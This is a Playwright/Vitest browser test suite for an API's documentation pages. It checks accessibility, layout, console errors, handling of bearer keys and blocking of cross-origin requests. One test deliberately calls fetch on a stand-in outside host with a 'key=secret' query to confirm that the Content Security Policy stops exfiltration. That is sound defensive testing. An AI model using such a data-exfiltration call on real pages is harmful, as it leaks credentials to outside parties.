import { readFileSync } from "node:fs"
import { EVENTS, operations, SCOPES } from "@outreach/contract"
import { installDebianPackages } from "@outreach/debian-packages/installDebianPackages"
import { seedCampaign } from "@outreach/testing/seedCampaign"
import { Effect } from "effect"
import { SqlClient } from "effect/sql"
import { type Browser, type BrowserContextOptions, chromium, type Page } from "playwright-core"
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from "vitest"
import { startApi } from "../startApi.ts"

const chrome = await installDebianPackages(["chromium"], ["/usr/bin/chromium", "/usr/bin/google-chrome"])

// A name, because nobody knows the port before the API listens: the browser is told where the name leads.
const BASE = "http://api.outreach.test"
const AXE = readFileSync(new URL(import.meta.resolve("axe-core/axe.min.js")), "utf8")
const PAGES = ["/docs", "/docs/errors", "/docs/webhooks"] as const
const DESKTOP = { viewport: { width: 1280, height: 900 } }
const SCREENS: Readonly<Record<string, BrowserContextOptions>> = {
  "a desktop": DESKTOP,
  "a dark desktop": { ...DESKTOP, colorScheme: "dark" },
  "a phone": { viewport: { width: 360, height: 740 }, isMobile: true, hasTouch: true },
}

const foreign = (requests: ReadonlyArray<string>) =>
  requests.filter((url) => !url.startsWith(`${BASE}/`) && !url.startsWith("data:"))

const overhang = (page: Page) => page.evaluate<number>("document.documentElement.scrollWidth - innerWidth")

/** Returns the rules of accessibility that a page breaks, and where. */
const violations = async (page: Page) => {
  await page.evaluate(AXE)
  return page.evaluate(async () => {
    // The viewer's own markup is not ours to mend.
    const { violations } = await (globalThis as never as AxeGlobal).axe.run({ exclude: ["#viewer"] })
    return violations.map(({ id, nodes }) => [id, nodes.map(({ target }) => target.join(" "))])
  })
}

describe.skipIf("missing" in chrome)("in a browser", () => {
  const api = startApi(undefined, { PUBLIC_BASE_URL: BASE })
  let browser: Browser
  beforeAll(async () => {
    if ("missing" in chrome) return
    const rules = `MAP api.outreach.test:80 127.0.0.1:${new URL(api().url).port}, MAP * ~NOTFOUND`
    const args = ["--no-sandbox", `--host-resolver-rules=${rules}`]
    browser = await chromium.launch({ executablePath: chrome.program, args })
  })
  afterAll(() => browser?.close())

  /** Shows a page until it is complete, and keeps what it asked for and what the console said. */
  const show = async (path: string, screen: BrowserContextOptions = DESKTOP) => {
    const context = await browser.newContext(screen)
    onTestFinished(() => context.close())
    // A test has a limit; a step of it has none of its own.
    context.setDefaultTimeout(0)
    const page = await context.newPage()
    const requests: Array<string> = []
    const complaints: Array<string> = []
    page.on("request", (request) => requests.push(request.url()))
    page.on("console", (message) => complaints.push(`${message.type()}: ${message.text()}`))
    page.on("pageerror", (error) => complaints.push(error.message))
    await page.goto(BASE + path)
    if (/^\/docs(#|$)/.test(path)) await page.waitForSelector(".opblock")
    return { page, requests, complaints }
  }

  describe.each(Object.entries(SCREENS))("on %s", (_name, screen) => {
    it.each(PAGES)(
      "shows %s with no error, foreign request or scrolling sideways, and by the rules of accessibility",
      async (path) => {
        const { page, requests, complaints } = await show(path, screen)
        expect(foreign(requests)).toEqual([])
        expect(complaints).toEqual([])
        expect(await overhang(page)).toBeLessThanOrEqual(0)

        expect(await violations(page)).toEqual([])
      },
    )
  })

  it("the reference shows every operation and every event of the contract", async () => {
    const { page } = await show("/docs")
    const shown = await page
      .locator(".opblock-summary-path")
      .evaluateAll((all) => all.map((path) => path.getAttribute("data-path")))
    const paths = Object.values(operations).map(({ path }) => path as string)
    expect(shown.toSorted()).toEqual([...paths, ...Object.keys(EVENTS)].toSorted())
  })

  it("no operation or event of the reference, once opened, complains or is wider than its screen", async () => {
    const { page, requests, complaints } = await show("/docs")
    await page.locator(".opblock-summary-control").evaluateAll((all) => {
      for (const closed of all) closed.click()
    })
    const last = Object.keys(operations).length + Object.keys(EVENTS).length - 1
    await page.locator(".opblock.is-open .responses-table").nth(last).waitFor()
    for (const width of [1280, 768, 360]) {
      await page.setViewportSize({ width, height: 740 })
      expect(await overhang(page)).toBeLessThanOrEqual(0)
    }
    expect([complaints, foreign(requests)]).toEqual([[], []])
  })

  it("the guide to webhooks shows the check of a signature in one language at a time, which keys choose", async () => {
    const { page, complaints } = await show("/docs/webhooks", { viewport: { width: 375, height: 740 } })
    const names = await page.locator(".languages summary").allTextContents()
    expect(names).toEqual(["TypeScript", "Python", "PHP", "Ruby", "Go", "Java", "C#"])
    for (const name of [...names.slice(1), names[0]!]) {
      await page.locator(".languages summary", { hasText: name }).press("Enter")
      expect(await page.locator(".languages details[open] summary").allTextContents()).toEqual([name])
      expect(await overhang(page)).toBeLessThanOrEqual(0)
      expect(await violations(page)).toEqual([])
    }
    expect(complaints).toEqual([])
  })

  it("a link to an operation opens it", async () => {
    const { page } = await show("/docs/errors")
    await page.locator("#TOKEN_NOT_FOUND").getByRole("link", { name: "resolve one token" }).click()
    await page.locator("#operations-Tokens-getToken.is-open").waitFor()
  })

  it("a request that is tried out is answered, and its key goes to this origin alone and is kept nowhere", async () => {
    const { organization, token } = await api().run(
      Effect.gen(function* () {
        const { organization } = yield* seedCampaign({ recipients: 1 })
        const rows = yield* (yield* SqlClient.SqlClient)<{ token: string }>`select token from recipients`
        return { organization, token: rows[0]!.token }
      }),
    )
    const { text: key } = await api().issue(organization.id, SCOPES)
    const { page, requests, complaints } = await show("/docs#/Tokens/getToken")

    await page.getByRole("button", { name: "Authorize" }).first().click()
    await page.locator("#auth-bearer-value").fill(key)
    await page.locator(".auth-btn-wrapper .authorize").first().click()
    await page.locator(".close-modal").click()
    const operation = page.locator("#operations-Tokens-getToken")
    await operation.locator(".try-out__btn").click()
    await operation.locator("tr[data-param-name=token] input").fill(token)
    const [request] = await Promise.all([
      page.waitForRequest((request) => request.url().includes("/tokens/")),
      operation.locator(".execute").click(),
    ])
    await operation.locator(".live-responses-table .response-col_status", { hasText: "200" }).waitFor()

    const headers = await request.allHeaders()
    expect([headers["authorization"], headers["idempotency-key"]]).toEqual([`Bearer ${key}`, undefined])
    expect(foreign(requests)).toEqual([])
    expect(complaints).toEqual([])
    expect(await page.evaluate<unknown>("[{ ...localStorage }, { ...sessionStorage }, document.cookie]")).toEqual([
      {},
      {},
      "",
    ])
    await page.reload()
    await page.waitForSelector(".authorize.unlocked")
  })

  it("the policy of the reference lets nothing be sent elsewhere", async () => {
    const { page, complaints } = await show("/docs")
    const sent = await page.evaluate(() =>
      fetch("https://elsewhere.test/?key=secret").then(
        () => true,
        () => false,
      ),
    )
    expect(sent).toBe(false)
    expect(complaints.join()).toContain("Content Security Policy")
  })
})

interface AxeGlobal {
  readonly axe: {
    readonly run: (context: { readonly exclude: ReadonlyArray<string> }) => Promise<{
      readonly violations: ReadonlyArray<{
        readonly id: string
        readonly nodes: ReadonlyArray<{ readonly target: ReadonlyArray<string> }>
      }>
    }>
  }
}
